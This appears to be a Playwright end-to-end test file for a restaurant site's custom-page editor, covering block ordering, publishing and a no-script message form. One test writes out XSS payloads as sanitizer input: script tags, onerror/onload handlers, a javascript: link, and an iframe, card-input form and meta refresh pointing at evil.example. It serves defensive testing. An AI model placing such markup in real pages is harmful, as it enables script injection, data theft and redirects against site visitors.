/** An owner makes a page of the website: with the mouse, by keyboard, without script, and with HTML that means harm. */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import type { Browser, Page } from 'playwright-core';
import { expectGone, until, untilHolds } from '#tests/support/until.ts';
import { signInToAdmin } from '../support/admin.ts';
import { axeFindings, openBrowser, visit } from '../support/browser.ts';
import { type RunningServer, runServer } from '../support/run-server.ts';

const MINUTES = 180_000;
const SHOP = '/restaurants/roma-pizza/stores/roma-newtown';
const LIST = `/admin${SHOP}/website/custom-pages`;
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

let server: RunningServer;
let browser: Browser;
beforeAll(async () => {
  server = await runServer({ isPlanted: true });
  browser = await openBrowser();
}, MINUTES);
afterAll(async () => {
  await browser?.close();
  await server?.[Symbol.asyncDispose]();
});

const titles = (page: Page) =>
  page
    .locator('[data-part="block"] fieldset')
    .evaluateAll((all) => all.map((one) => one.getAttribute('aria-label') ?? ''));
const block = (page: Page, kind: string) => page.locator(`[data-part="block"][data-kind="${kind}"]`);
const beside = (page: Page) => page.frameLocator('iframe:not([aria-hidden="true"])[title^="Your website"]');
const wait = (page: Page, wanted: string[]) =>
  until(
    `the blocks are ${wanted.join(', ')}`,
    async () => JSON.stringify(await titles(page)) === JSON.stringify(wanted),
  );

/** The editor of a text has come: presses stay on the page. */
async function openEditor(page: Page, path = `${LIST}/new`) {
  await page.goto(server.url + path);
  await page.locator('.ProseMirror').first().waitFor();
}

async function add(page: Page, label: string) {
  const list = page.locator('[data-part="page-blocks"] > details');
  if ((await list.getAttribute('open')) === null) await list.locator('summary').click();
  await list.getByRole('button', { name: new RegExp(`^${label} `) }).click();
}

async function publish(page: Page) {
  await page.getByRole('button', { name: 'Publish', exact: true }).click();
  await page.getByText('Published. Customers see it now.').first().waitFor();
}

describe('a page of the website', () => {
  test(
    'is written, put in order by mouse and by keyboard, and seen by guests as soon as it is published',
    async () => {
      const owner = await visit(browser, 'desktop');
      const { page } = owner;
      await signInToAdmin(page, server.url);
      await page.goto(server.url + LIST);
      await page.getByRole('link', { name: 'New page' }).click();
      await page.locator('.ProseMirror').waitFor();
      await page.getByLabel('Title', { exact: true }).fill('Our oven');
      await page.locator('.ProseMirror').click();
      await page.keyboard.type('We fire it every day.');
      await page.keyboard.press('Control+A');
      await page.getByRole('button', { name: 'Bold' }).click();
      await add(page, 'Heading');
      await page.keyboard.type('Wood and fire');
      await add(page, 'Gallery');
      await block(page, 'gallery')
        .locator('input[type="file"]')
        .setInputFiles({ name: 'oven.png', mimeType: 'image/png', buffer: PIXEL });
      await block(page, 'gallery').locator('img').waitFor();
      await add(page, 'Map');
      const text = '1. Text: We fire it every day.';
      await wait(page, [text, '2. Heading: Wood and fire', '3. Gallery: 1 picture', '4. Map']);

      // By keyboard: the focus stays on the block that moves.
      await page.getByRole('button', { name: 'Move up: 2. Heading: Wood and fire' }).focus();
      await page.keyboard.press('Enter');
      await wait(page, [
        '1. Heading: Wood and fire',
        '2. Text: We fire it every day.',
        '3. Gallery: 1 picture',
        '4. Map',
      ]);
      expect(
        await page.evaluate(() => document.activeElement?.closest('[data-part="block"]')?.getAttribute('data-kind')),
      ).toBe('heading');

      // By mouse, to the upper half of the gallery. Both are in sight, so that nothing scrolls under the hand.
      await block(page, 'gallery').evaluate((one) => one.scrollIntoView({ block: 'start' }));
      await block(page, 'map')
        .locator('[data-part="grip"]')
        .dragTo(block(page, 'gallery'), { targetPosition: { x: 80, y: 30 }, steps: 10 });
      await wait(page, [
        '1. Heading: Wood and fire',
        '2. Text: We fire it every day.',
        '3. Map',
        '4. Gallery: 1 picture',
      ]);

      // What is removed is brought back, with its words.
      await page.getByRole('button', { name: 'Remove: 2. Text: We fire it every day.' }).click();
      await wait(page, ['1. Heading: Wood and fire', '2. Map', '3. Gallery: 1 picture']);
      await page.keyboard.press('Enter');
      await wait(page, [
        '1. Heading: Wood and fire',
        '2. Text: We fire it every day.',
        '3. Map',
        '4. Gallery: 1 picture',
      ]);
      // Beside the form is the page as it is now, of which nothing is saved yet.
      await until('the website beside the form has the blocks in their order', async () => {
        const shown = await beside(page)
          .locator('[data-part^="block-"]')
          .evaluateAll((all) => all.map((one) => one.getAttribute('data-part')));
        return JSON.stringify(shown) === '["block-heading","block-text","block-map","block-gallery"]';
      });
      expect(await beside(page).locator('[data-part="page-text"] strong').textContent()).toBe('We fire it every day.');
      expect(await axeFindings(page)).toEqual([]);
      await publish(page);
      expect(owner.problems).toEqual([]);

      const guest = await visit(browser, 'phone');
      await guest.page.goto(`${server.url + SHOP}/pages/our-oven`);
      await guest.page.getByRole('heading', { name: 'Our oven', level: 1 }).waitFor();
      await untilHolds(async () =>
        expect(await guest.page.locator('[data-part="page-text"] strong').textContent()).toBe('We fire it every day.'),
      );
      expect(await axeFindings(guest.page)).toEqual([]);

      // The next look shows the next version; the page was kept before.
      await page.getByLabel('Title', { exact: true }).fill('Our wood oven');
      await publish(page);
      await guest.page.reload();
      await guest.page.getByRole('heading', { name: 'Our wood oven', level: 1 }).waitFor();
      expect(guest.problems).toEqual([]);
    },
    MINUTES,
  );

  test(
    'HTML that means harm neither runs, nor loads, nor covers the page, in a real browser',
    async () => {
      const owner = await visit(browser, 'desktop');
      const { page } = owner;
      await signInToAdmin(page, server.url);
      await openEditor(page);
      await page.getByLabel('Title', { exact: true }).fill('Traps');
      await page.getByRole('button', { name: 'Edit as HTML' }).click();
      await page
        .getByLabel('HTML', { exact: true })
        .fill(
          [
            '<p id="kept" class="fixed inset-0 own-note" style="position:fixed;inset:0">Only words</p>',
            '<script>window.hit = 1</script><img src=x onerror="window.hit = 2"><svg onload="window.hit = 3"></svg>',
            '<iframe src="https://evil.example"></iframe><img src="https://evil.example/pixel.gif">',
            '<div data-island="storefront/menu-page" data-src="https://evil.example/x.js" data-props="{}"></div>',
            '<form action="https://evil.example"><input name="card"></form><a href="javascript:window.hit=4">Press</a>',
            '<!--cart--><meta http-equiv="refresh" content="0;url=https://evil.example">',
          ].join('\n'),
        );
      await page.getByRole('button', { name: 'Publish', exact: true }).click();
      await page.getByText('We left out what a page can’t have: script, svg, iframe and more.').first().waitFor();
      expect(owner.problems).toEqual([]);

      const guest = await visit(browser, 'phone');
      const asked: string[] = [];
      guest.page.on('request', (request) => asked.push(new URL(request.url()).host));
      await guest.page.goto(`${server.url + SHOP}/pages/traps`);
      await guest.page.getByText('Only words').waitFor();
      await guest.page.getByText('Press').click();
      expect(await guest.page.evaluate(() => 'hit' in window)).toBe(false);
      expect(new Set(asked)).toEqual(new Set([new URL(server.url).host]));
      await expectGone(guest.page.locator('iframe, [data-part="page-text"] form'));
      expect(await guest.page.getByText('Only words').evaluate((one) => getComputedStyle(one).position)).toBe('static');
      expect(guest.problems).toEqual([]);
    },
    MINUTES,
  );

  test(
    'without script blocks are added and moved by their buttons, and a guest writes to the store',
    async () => {
      const { page } = await visit(browser, 'phone', { javaScriptEnabled: false });
      await signInToAdmin(page, server.url);
      await page.goto(`${server.url}${LIST}/new`);
      await page.getByLabel('Title', { exact: true }).fill('Parties');
      await page.locator('textarea[name="block.0.html"]').fill('<p>Up to forty guests.</p>');
      await add(page, 'Message form');
      await page.getByRole('button', { name: /^Move up: 2\. Message form/ }).click();
      expect(await titles(page)).toEqual(['1. Message form: Send us a message', '2. Text: Up to forty guests.']);
      await publish(page);

      await page.goto(`${server.url + SHOP}/pages/parties`);
      await page.getByLabel('Name').fill('Ada');
      await page.getByLabel('Email').fill('ada@mail');
      await page.getByLabel('Message', { exact: true }).fill('Twelve of us?');
      await page.getByRole('button', { name: 'Send message' }).click();
      await page.locator('#f-email-error').waitFor();
      expect(await page.getByLabel('Message', { exact: true }).inputValue()).toBe('Twelve of us?');
      await page.getByLabel('Email').fill('ada@mail.example');
      await page.getByRole('button', { name: 'Send message' }).click();
      await page.getByText('Message sent. The store will reply by email.').waitFor();
      expect(new URL(page.url()).pathname).toBe(`${SHOP}/pages/parties`);
    },
    MINUTES,
  );
});
